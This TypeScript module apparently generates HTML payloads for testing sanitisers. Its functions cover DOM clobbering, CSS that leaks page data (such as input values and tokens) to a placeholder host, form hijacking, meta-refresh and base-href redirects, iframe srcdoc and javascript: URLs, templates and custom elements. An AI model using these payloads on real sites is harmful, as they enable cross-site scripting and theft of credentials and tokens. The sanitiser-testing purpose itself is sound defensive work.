/** Payloads that need no script at once: clobbering, styles, forms, frames, and what changes the page around them. */
import { cross } from './cross';

/** Properties that a sanitiser, a framework or a page asks of nodes and documents. */
const ASKED_FOR = [
  ...[
    'attributes',
    'childNodes',
    'children',
    'firstChild',
    'nodeName',
    'nodeType',
    'parentNode',
    'namespaceURI',
  ],
  ...[
    'removeAttribute',
    'setAttribute',
    'getAttributeNode',
    'insertBefore',
    'removeChild',
    'remove',
    'cloneNode',
  ],
  ...[
    'innerHTML',
    'textContent',
    'ownerDocument',
    'body',
    'documentElement',
    'getElementById',
    'querySelector',
  ],
  ...[
    'createElement',
    'defaultView',
    'location',
    'cookie',
    'currentScript',
    'implementation',
    'forms',
    'links',
  ],
  ...[
    '__proto__',
    'constructor',
    'hasChildNodes',
    'tagName',
    'content',
    'shadowRoot',
    'trustedTypes',
    'browser',
    'chrome',
  ],
];

export function clobbering(): string[] {
  return [
    ...ASKED_FOR.flatMap((name) => [
      `<form onclick=RUN><input name=${name}>x</form>`,
      `<form id=${name}><output name=${name}>x</output></form>`,
      `<img name=${name} src=x? onerror=RUN>`,
      `<a id=${name}></a><a id=${name} name=${name} href="javascript:RUN">x</a>`,
    ]),
    '<form><form onclick=RUN><input name=parentNode><input id=childNodes>x</form></form>',
    '<form id=f></form><input form=f name=attributes><p form=f onclick=RUN>x</p>',
    '<iframe name=top srcdoc="<a id=document href=x>"></iframe>',
    '<object id=dateline name=dateline></object><embed name=dateline>',
  ];
}

export function styles(): string[] {
  const values = [
    'background:url(AWAY)',
    'background-image:image-set("AWAY" 1x)',
    'list-style:url("AWAY")',
    'cursor:url(AWAY),auto',
    'content:url(AWAY)',
    'border-image:url(AWAY) 30',
    'mask-image:url(AWAY)',
    'filter:url(AWAY#f)',
    'width:expression(RUN)',
    'behavior:url(AWAY)',
    '-moz-binding:url(AWAY)',
    'background:url(javascript:RUN)',
    'position:fixed;inset:0;z-index:99999;background:red',
    '@import "AWAY"',
    '--x:url(AWAY);background:var(--x)',
    'background:u\\72l(AWAY)',
    'backg/**/round:url(AWAY)',
    'font:1em/1 "&quot;;background:url(AWAY)"',
  ];
  const rules = [
    '@import url(AWAY);',
    '@import "AWAY";',
    '*{background:url(AWAY)}',
    '@font-face{font-family:x;src:url(AWAY)}*{font-family:x}',
    'input[value^=a]{background:url(AWAY)}',
    'a[href*=token]{background:url(AWAY)}',
    '@namespace url(AWAY);',
    'html{display:none}',
    '.article,main{display:none!important}',
    '::first-line{background:url(AWAY)}',
    '@property --x{syntax:"<url>";inherits:true;initial-value:url(AWAY)}*{background:var(--x)}',
    '@container style(--x){*{background:url(AWAY)}}',
  ];
  return [
    ...values.map((value) => `<p style="${value.replace(/"/g, '&quot;')}">x</p>`),
    ...values.map((value) => `<table><td STYLE='${value.replace(/'/g, '&#39;')}'>x</table>`),
    ...cross(
      ['<style>', '<style media=all>', '<p><style type=text/css>', '<svg><style>', '<template><style>'],
      rules,
      ['</style>', ''],
    ),
    ...['stylesheet', 'alternate stylesheet', 'STYLESHEET'].flatMap((rel) => [
      `<link rel="${rel}" href="AWAY">`,
      `<link rel="${rel}" href="data:text/css,*{background:url(AWAY)}">`,
    ]),
    '<img src=x? width="expression(RUN)" height="1;background:url(AWAY)">',
    '<font size="expression(RUN)" color="url(AWAY)">x</font>',
    '<p class="toast dialog btn primary" id=app>x</p>',
  ];
}

export function forms(): string[] {
  const inside = [
    '<input name=q autofocus>',
    '<button>x</button>',
    '<input type=submit>',
    '<input type=password name=p>',
    '<textarea name=t>',
    '<select><option>x</select>',
    '<input type=hidden name=x value=y>',
    '<input type=file>',
  ];
  return [
    ...cross(
      [
        '<form action="AWAY">',
        '<form method=post action="AWAY" target=_top>',
        '<form action="javascript:RUN">',
        '<dialog open><form method=dialog action="AWAY">',
      ],
      inside,
      ['</form>', ''],
    ),
    ...inside,
    '<form id=g action="AWAY"></form><button form=g>x</button>',
    '<button formaction="AWAY" formmethod=post>x</button>',
    '<button popovertarget=x commandfor=x command=show-modal>x</button>',
    '<input type=image src="AWAY">',
    '<keygen autofocus onfocus=RUN>',
    '<label for=search>x</label><datalist id=d><option>x</datalist>',
    '<isindex prompt=x action="AWAY">',
    '<fieldset disabled=no onmouseover=RUN>x</fieldset>',
  ];
}

export function pageWide(): string[] {
  const rels = [
    'prefetch',
    'preload',
    'prerender',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'icon',
    'manifest',
    'import',
    'search',
    'pingback',
    'serviceworker',
  ];
  return [
    ...cross(
      ['<meta http-equiv='],
      ['refresh', 'REFRESH', '"refresh"', 'refresh/'],
      [' content='],
      [
        '"0;url=AWAY"',
        '"0;url=javascript:RUN"',
        "'0; AWAY'",
        '"0;URL=&#39;AWAY&#39;"',
        '0',
        '"0;url=data:text/html,<script>RUN</script>"',
      ],
      ['>'],
    ),
    ...[
      'set-cookie content="a=b"',
      'content-security-policy content="script-src *"',
      'x-dns-prefetch-control content=on',
      'origin-trial content=x',
    ].map((text) => `<meta http-equiv=${text}>`),
    ...[
      'referrer content=unsafe-url',
      'viewport content="width=1"',
      'color-scheme content=dark',
      'monetization content=AWAY',
    ].map((text) => `<meta name=${text}>`),
    ...['AWAY/', 'javascript:/RUN//', 'data:/,', '//away.example/'].flatMap((address) => [
      `<base href="${address}"><a href=x>x</a><img src=y>`,
      `<base target=_top href='${address}'>`,
    ]),
    ...rels.map((rel) => `<link rel=${rel} href="AWAY" as=script>`),
    '<html manifest="AWAY" onload=RUN>',
    '<body onload=RUN background="AWAY"><p>x',
    '<head profile="AWAY"><title>x</title></head>',
    '<bgsound src="javascript:RUN">',
    '<noscript><meta http-equiv=refresh content="0;url=AWAY"></noscript>',
    '<img src="AWAY" ismap usemap=#m><map name=m><area href="javascript:RUN"></map>',
  ];
}

export function frames(): string[] {
  const inner = [
    '<script>RUN</script>',
    '<img src=x? onerror=RUN>',
    '&lt;script&gt;RUN&lt;/script&gt;',
    '<body onload=RUN>',
    '<base href=AWAY><script src=x></script>',
  ];
  return [
    ...cross(
      [
        '<iframe srcdoc="',
        '<iframe sandbox=allow-scripts srcdoc="',
        '<iframe SRCDOC="',
        '<p><iframe src=about:blank srcdoc="',
      ],
      inner,
      ['"></iframe>', '">'],
    ),
    ...[
      'iframe src',
      'frame src',
      'embed src',
      'object data',
      'portal src',
      'fencedframe src',
      'webview src',
      'applet archive',
    ].flatMap((start) => [
      `<${start}="AWAY"></${start.split(' ')[0]}>`,
      `<frameset><${start}="javascript:RUN"></frameset>`,
    ]),
    '<object type="text/x-scriptlet" data="AWAY"></object>',
    '<object type=text/html data="data:text/html,<script>RUN</script>"></object>',
    '<embed type="image/svg+xml" src="data:image/svg+xml;base64,RUN_BASE64">',
    '<iframe><img src=x? onerror=RUN></iframe>',
    '<iframe name="RUN" src="javascript:eval(name)"></iframe>',
    '<iframe src="AWAY" allow="camera; microphone"></iframe>',
  ];
}

export function templates(): string[] {
  const inner = [
    '<script>RUN</script>',
    '<img src=x? onerror=RUN>',
    '<p onclick=RUN>x</p>',
    '<style>*{background:url(AWAY)}</style>',
    '<template><img src=x? onerror=RUN></template>',
  ];
  return [
    ...cross(
      [
        '<template>',
        '<template shadowrootmode=open>',
        '<p><template shadowrootmode=closed>',
        '<div><template shadowroot=open>',
        '<select><template>',
        '<table><template>',
        '<svg><template>',
      ],
      inner,
      ['</template>', ''],
    ),
    '<slot onslotchange=RUN>x</slot>',
    '<div><template shadowrootmode=open shadowrootclonable><slot></slot><img src=x? onerror=RUN></template>x</div>',
  ];
}

export function customElements(): string[] {
  const names = [
    'x-a',
    'dom-module',
    'google-map',
    'amp-img',
    'font-face',
    'annotation-xml',
    'color-profile',
    'missing-glyph',
    'x:a',
    'a.b',
    'ð-x',
    'unknownelement',
    'blink',
    'acronym',
    'multicol',
  ];
  return [
    ...cross(['<'], names, [
      ' onclick=RUN>x',
      ' onfocus=RUN autofocus tabindex=1>x',
      ' style="background:url(AWAY)">x',
      ' is=x-a><img src=x? onerror=RUN>',
    ]),
    ...['button', 'p', 'a', 'img src=x?'].map((tag) => `<${tag} is="x-a" onclick=RUN onerror=RUN>x`),
  ];
}
